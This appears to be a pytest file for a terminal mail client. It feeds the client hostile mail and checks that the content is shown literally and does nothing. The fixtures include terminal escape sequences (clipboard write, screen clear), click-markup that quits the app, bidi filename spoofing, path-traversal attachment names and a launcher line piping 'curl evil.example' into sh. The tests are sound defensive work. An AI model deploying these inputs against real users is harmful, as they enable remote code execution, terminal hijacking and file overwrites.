"""Mail is hostile: markup, click actions, terminal escape sequences, bidi tricks, huge bodies, path traversal."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import pytest
from textual.command import CommandPalette

from pigeon import locations
from pigeon.core.attachments import attachment_bytes, attachment_filename, save_into
from pigeon.models import ContentBlock
from pigeon.tui.screens.mail import MainScreen
from pigeon.tui.screens.modals import ConfirmScreen
from pigeon.tui.widgets.reader import Reader
from pigeon.tui.widgets.thread_list import ThreadList
from pigeon.tui.widgets.thread_text import ThreadText
from pigeon.tui.widgets.thread_view import ThreadView
from pigeon.tui.widgets.thread_window import Assembled, Layout
from pigeon_service.db import iso
from tests.server.conftest import NOW, Service, first_thread
from tests.tui.conftest import SIZE, Notes, current_id, loaded, on_screen, palette_hits, pigeon_for, screen_text, settle
from tests.tui.scenes import editor_ready

SUBJECT = "[@click=app.quit]Click me[/] [PATCH v2] fix [/] [link=https://evil.example]x[/link]"
BODY = (
    "Hello [bold red]not bold[/] and [@click=app.quit]a click action[/]\n"
    "clipboard \x1b]52;c;aGFja2Vk\x07write\n"
    "hyperlink \x1b]8;;https://evil.example\x1b\\harmless\x1b]8;;\x1b\\\n"
    "csi \x1b[2J\x1b[31mred\x1b[0m end\n"
    "c1 \x9b31mcsi8 \x9d52;c;x\x9c done\n"
    "bidi invoice\u202egnp.exe\n"
)
BIG = "2MB body line. " * (2 * 1024 * 1024 // 15)
ESCAPES = ["\x1b", "\x9b", "\x9d", "\u202e", "\x07"]


@pytest.fixture
def hostile(service: Service) -> str:
    """A thread whose every field tries something, newest in the account so it is first in the list."""
    db, account = service.db, service.alice.id
    inbox = db.list_inboxes(account)[0]
    with db.transaction() as conn:
        thread_id = db.insert_thread(
            conn, account, {"inbox_id": inbox.id, "subject": SUBJECT, "created_at": iso(NOW), "participants": []}
        )
        db.insert_message(
            conn,
            account,
            {
                "thread_id": thread_id,
                "inbox_id": inbox.id,
                "direction": "MESSAGE_DIRECTION_INBOUND",
                "status": "MESSAGE_STATUS_RECEIVED",
                "subject": SUBJECT,
                "sender_address": "[@click=app.quit]evil\x1b[8m@example.com",
                "recipients": [{"raw_address": "you\u202e@example.com", "type": "RECIPIENT_TYPE_TO"}],
                "content_blocks": [
                    {"type": "CONTENT_TYPE_TEXT", "mime_type": "text/plain", "content": BODY, "sequence": 0},
                    {"type": "CONTENT_TYPE_TEXT", "mime_type": "text/plain", "content": BIG, "sequence": 1},
                    {
                        "type": "CONTENT_TYPE_ATTACHMENT",
                        "mime_type": "application/octet-stream",
                        "filename": "../../x",
                        "content": base64.b64encode(b"payload").decode(),
                        "size": 7,
                        "sequence": 2,
                        "metadata": {"encoding": "base64"},
                    },
                ],
                "created_at": iso(NOW),
                "received_at": iso(NOW),
            },
        )
    return thread_id


async def test_hostile_mail_is_shown_literally_and_does_nothing(service: Service, hostile: str) -> None:
    app = pigeon_for(service)
    async with app.run_test(size=SIZE) as pilot:
        threads = await loaded(pilot, app)
        assert threads.source.row(0).id == hostile
        await pilot.click(ThreadList, offset=(40, 0))  # a click on the subject runs no action in it
        await pilot.press("enter")
        reader = app.screen.query_one(Reader)
        await settle(pilot, app, lambda: app.focused is reader and bool(reader.messages))
        await pilot.click(Reader, offset=(5, 8))
        await pilot.click(Reader, offset=(20, 3))
        await settle(pilot, app)
        assert app.is_running
        assert isinstance(app.screen, MainScreen)

        text = reader.text
        for literal in (
            "[@click=app.quit]Click me[/]",
            "[PATCH v2] fix",
            "[bold red]not bold[/]",
            "[link=https://evil",
        ):
            assert literal in text
        assert "clipboard write" in text
        assert "hyperlink harmless" in text
        assert "csi red end" in text
        assert "invoicegnp.exe" in text
        assert "more characters not shown" in text
        for bad in ESCAPES:
            assert bad not in text
        shown = screen_text(app)
        assert "[@click=app.quit]Click me[/]" in shown
        for bad in ESCAPES:
            assert bad not in shown
        assert "../../x" in text  # listed as the mail names it (below the huge body), saved under its base name

        await pilot.press("ctrl+p", *"Click")  # the palette shows mail text literally too
        await settle(pilot, app, lambda: any(hit.startswith("Open ") for hit in palette_hits(app)))
        opened = next(hit for hit in palette_hits(app) if hit.startswith("Open "))
        assert "[@click=app.quit]Click me[/]" in opened  # the markup is text, not a link that quits
        assert isinstance(app.screen, CommandPalette)
        assert app.is_running


async def test_an_attachment_named_with_a_path_lands_inside_the_download_folder(service: Service, hostile: str) -> None:
    app = pigeon_for(service)
    notes = Notes()
    async with app.run_test(size=SIZE, notifications=True, message_hook=notes) as pilot:
        await loaded(pilot, app)
        await pilot.press("enter")
        reader = app.screen.query_one(Reader)
        await settle(pilot, app, lambda: app.focused is reader and bool(reader.messages))
        await pilot.press("a")
        await settle(pilot, app, lambda: "Saved" in notes.text)
        folder = locations.download_dir().resolve()
        assert (folder / "x").read_bytes() == b"payload"
        assert not (folder.parent.parent / "x").exists()
        # Saving again asks before replacing, and "keep" keeps the file as it is.
        (folder / "x").write_bytes(b"mine")
        await pilot.press("a")
        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press("n")
        await settle(pilot, app)
        assert (folder / "x").read_bytes() == b"mine"
        await pilot.press("a")
        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press("y")
        await settle(pilot, app, lambda: (folder / "x").read_bytes() == b"payload")


async def test_a_linked_download_folder_is_named_by_its_real_place(
    service: Service, hostile: str, tmp_path: Path
) -> None:
    real = tmp_path / "elsewhere"
    real.mkdir()
    link = locations.download_dir()
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(real)
    app = pigeon_for(service)
    notes = Notes()
    async with app.run_test(size=SIZE, notifications=True, message_hook=notes) as pilot:
        await loaded(pilot, app)
        await pilot.press("enter")
        reader = app.screen.query_one(Reader)
        await settle(pilot, app, lambda: app.focused is reader and bool(reader.messages))
        await pilot.press("a")
        await settle(pilot, app, lambda: "Saved" in notes.text)
        assert f"Saved {real.resolve() / 'x'}" in notes.text
        await pilot.press("a")
        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
        question = on_screen(app, ConfirmScreen).question.plain
        assert question == f"Replace x in {real.resolve()}?"


@pytest.mark.parametrize(
    ("name", "saved_as"),
    [
        ("../../x", "x"),
        ("/etc/passwd", "passwd"),
        ("..\\..\\windows\\evil.dll", "evil.dll"),
        ("..", "attachment"),
        ("", "attachment"),
        (None, "attachment"),
        ("re\u202eport.exe", "report.exe"),
        ("a\x1b]52;c;x\x07b.txt", "ab.txt"),
    ],
)
def test_attachment_names_are_reduced_to_a_safe_base_name(tmp_path: Path, name: str | None, saved_as: str) -> None:
    assert attachment_filename(name) == saved_as
    path = save_into(tmp_path / "downloads", name, b"data", overwrite=False)
    assert path == (tmp_path / "downloads" / saved_as).resolve()
    assert path.read_bytes() == b"data"


def test_saving_never_overwrites_unless_told_and_never_follows_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "downloads"
    save_into(folder, "a.txt", b"first", overwrite=False)
    with pytest.raises(FileExistsError):
        save_into(folder, "a.txt", b"second", overwrite=False)
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    (folder / "link.txt").symlink_to(outside)
    with pytest.raises(FileExistsError):
        save_into(folder, "link.txt", b"evil", overwrite=False)
    save_into(folder, "link.txt", b"replaced", overwrite=True)
    assert outside.read_text() == "keep me"
    assert (folder / "link.txt").read_bytes() == b"replaced"


def test_attachment_content_is_decoded_only_when_marked_base64() -> None:
    encoded = ContentBlock(content=base64.b64encode(b"\x00\x01").decode(), metadata={"encoding": "base64"})
    assert attachment_bytes(encoded) == b"\x00\x01"
    assert attachment_bytes(ContentBlock(content="plain text")) == b"plain text"


# --- one door to the terminal: every path, not only the reader and the list ---------------------------------------

POISON = "\x1b]52;c;aGFja2Vk\x07\x1b]0;owned\x07[/][@click=app.quit]x[/]\u202e\x9b2J"


async def test_notifications_are_cleaned_and_never_markup(service: Service) -> None:
    app = pigeon_for(service)
    notes = Notes()
    async with app.run_test(size=SIZE, notifications=True, message_hook=notes) as pilot:
        await loaded(pilot, app)
        app.screen.notify(f"Created inbox {POISON}", title=POISON)  # a screen's notify goes through the app's
        await settle(pilot, app, lambda: any("Created inbox" in n.message for n in notes))
        note = next(n for n in notes if "Created inbox" in n.message)
        assert not note.markup
        for bad in [*ESCAPES, "\x1b]0;"]:
            assert bad not in note.message
            assert bad not in note.title
        assert "[@click=app.quit]x[/]" in note.message  # shown as text


async def test_a_label_made_of_markup_is_text_in_the_sidebar_and_the_palette(service: Service) -> None:
    app = pigeon_for(service)
    async with app.run_test(size=SIZE) as pilot:
        threads = await loaded(pilot, app)
        app.core.store.label([threads.source.row(0).id], "[/] [@click=app.quit]q[/]")
        screen = on_screen(app, MainScreen)
        screen.show_threads()
        await settle(pilot, app, lambda: any(v.startswith("label:") for v in screen.label_views))
        await pilot.press("ctrl+p")  # discovery lists every command, the label's view included
        await settle(pilot, app, lambda: "View: #[/] [@click=app.quit]q[/]" in palette_hits(app))
        await pilot.press(*"View")  # searching highlights it literally too
        await settle(pilot, app, lambda: "View: #[/] [@click=app.quit]q[/]" in palette_hits(app))
        assert app.is_running


def test_a_label_with_control_characters_is_refused(service: Service) -> None:
    from pigeon.store.mailstore import MailStore

    store = MailStore(":memory:")
    with pytest.raises(ValueError, match="printable"):
        store.label(["t"], "work\x1b]52;c;AA\x07")


async def test_the_contact_editor_shows_no_escape_and_saves_only_what_was_changed(service: Service) -> None:
    from textual.widgets import Input, Select, TextArea

    from pigeon.tui.messages import EditContact
    from pigeon.tui.screens.contacts.editor import ContactEditor

    db, account = service.db, service.alice.id
    with db.transaction() as conn:
        contact_id = db.insert_contact(
            conn,
            account,
            {
                "first_name": "Eve\x1b]52;c;aGFja2Vk\x07",
                "last_name": "Mallory\u202e",
                "emails": [{"type": "EMAIL_TYPE_FROM_THE_FUTURE", "email": "eve@example.com"}],
                "phones": [{"type": "PHONE_TYPE_WORK", "phone": "\u200e+1 555 0100"}],
                "metadata": {"note": "\x9b2J\u202eevil", "n": 1},
            },
        )
    contact = db.get_contact(account, contact_id)
    assert contact is not None
    app = pigeon_for(service)
    async with app.run_test(size=SIZE) as pilot:
        await loaded(pilot, app)
        app.post_message(EditContact(contact))
        await settle(pilot, app, lambda: editor_ready(app))
        editor = app.screen
        shown = [box.value for box in editor.query(Input)] + [editor.query_one(TextArea).text]
        for bad in ESCAPES:
            assert not [value for value in shown if bad in value]
        types = editor.query(Select).first()
        await settle(pilot, app, lambda: not types.is_blank())  # (a Select takes its value once mounted)
        assert types.value == "EMAIL_TYPE_FROM_THE_FUTURE"  # an unknown type is offered, not replaced
        first = editor.query_one("#first_name", Input)
        assert first.value == "Eve"  # the clipboard write is gone from what is shown
        first.value = "Evelyn"
        await pilot.press("ctrl+s")
        await settle(pilot, app, lambda: not isinstance(app.screen, ContactEditor))
    saved = db.get_contact(account, contact_id)
    assert saved is not None
    assert saved.first_name == "Evelyn"
    assert saved.last_name == "Mallory\u202e"  # untouched values are never rewritten
    assert [(e.type, e.email) for e in saved.emails] == [("EMAIL_TYPE_FROM_THE_FUTURE", "eve@example.com")]
    assert [p.phone for p in saved.phones] == ["\u200e+1 555 0100"]
    assert saved.metadata == {"note": "\x9b2J\u202eevil", "n": 1}


def test_a_name_that_names_an_address_is_listed_as_the_address_it_came_from() -> None:
    from pigeon.models import Message
    from pigeon.store.sync import sender_label

    spoof = Message.model_validate(
        {"sender": {"raw_address": "x@paypa1.example", "contact": {"first_name": "PayPal <service@paypal.com>"}}}
    )
    assert sender_label(spoof) == "x@paypa1.example"
    honest = Message.model_validate({"sender": {"raw_address": "ada@example.com", "contact": {"first_name": "Ada"}}})
    assert sender_label(honest) == "Ada"


async def test_the_reader_shows_the_address_a_message_came_from(service: Service) -> None:
    app = pigeon_for(service)
    async with app.run_test(size=SIZE) as pilot:
        await loaded(pilot, app)
        await pilot.press("enter")
        reader = app.screen.query_one(Reader)
        await settle(pilot, app, lambda: app.focused is reader and bool(reader.messages))
        named = [m for m in reader.messages if m.sender and m.sender.contact and m.sender.contact.name]
        assert named
        for message in named:
            assert message.sender is not None
            assert f"From: {message.sender.raw_address}" in reader.text


async def test_keys_are_answered_while_a_long_thread_is_laid_out(
    service: Service, hostile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import threading

    from pigeon.tui.widgets import thread_window

    gate = threading.Event()
    assemble = thread_window.assemble
    laid_out_on: list[threading.Thread] = []

    def held(view: ThreadView, layout: Layout, progress: str) -> Assembled:
        if threading.current_thread() is not threading.main_thread():
            laid_out_on.append(threading.current_thread())
            gate.wait(10)  # the layout of the 2 MB message takes as long as this test likes
        return assemble(view, layout, progress)

    monkeypatch.setattr("pigeon.tui.widgets.reader.assemble", held)
    app = pigeon_for(service)
    async with app.run_test(size=SIZE) as pilot:
        threads = await loaded(pilot, app)
        await pilot.press("enter")  # the hostile thread, with its 2 MB body, is the first
        reader = app.screen.query_one(Reader)

        async def until(state: Callable[[], bool]) -> None:  # (settle would wait for the held worker)
            for _ in range(500):
                await pilot.pause(0.01)
                if state():
                    return
            raise AssertionError("not reached")

        await until(lambda: "Laying out" in reader.query_one(ThreadText).plain)
        assert laid_out_on  # in a thread, not on the UI's
        await pilot.press("escape", "j")  # answered while the layout goes on
        await until(lambda: threads.cursor == 1 and app.focused is threads)
        gate.set()
        # the reader previews the thread the cursor rests on; the long layout, older, does not land over it
        await settle(pilot, app, lambda: reader.thread is not None and reader.thread.id == current_id(threads))
        assert "more characters not shown" not in reader.text


async def test_an_attachment_whose_contents_are_a_launcher_asks_before_it_opens_whatever_its_name(
    service: Service, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pigeon.config import load_config
    from tests.conftest import recording_program
    from tests.tui.conftest import BASE

    opener, record = recording_program(tmp_path / "bin", "opener", monkeypatch)
    launcher = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
    thread_id = first_thread(service, service.alice)  # the newest
    block = {
        "type": "CONTENT_TYPE_FILE",
        "mime_type": "text/plain",
        "filename": "notes.txt. ",
        "content": base64.b64encode(launcher).decode(),
        "metadata": {"encoding": "base64"},
    }
    service.add_message(service.alice, thread_id, sender_address="ann@example.com", content_blocks=[block])
    config = load_config(base_url=BASE)
    config.ui.open_command = [str(opener)]
    app = pigeon_for(service, config=config)
    async with app.run_test(size=SIZE) as pilot:
        await loaded(pilot, app)
        await pilot.press("enter")
        reader = app.screen.query_one(Reader)
        await settle(pilot, app, lambda: any(b.filename == "notes.txt. " for _, b in reader.attachments))
        await pilot.press("greater_than_sign")  # the cursor to the newest message, which holds the file
        names = [b.filename for m, b in reader.attachments if m is reader.current_message]
        await pilot.press("O")
        if len(names) > 1:  # (the picker lists the attachments of the message under the cursor)
            await settle(pilot, app, lambda: bool(app.screen.query("#pick")))
            await pilot.press(*["down"] * names.index("notes.txt. "), "enter")
        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
        question = on_screen(app, ConfirmScreen).question.plain
        assert "its contents are a launcher" in question
        assert record.runs() == []
        await pilot.press("y")
        await settle(pilot, app, lambda: len(record) == 1)
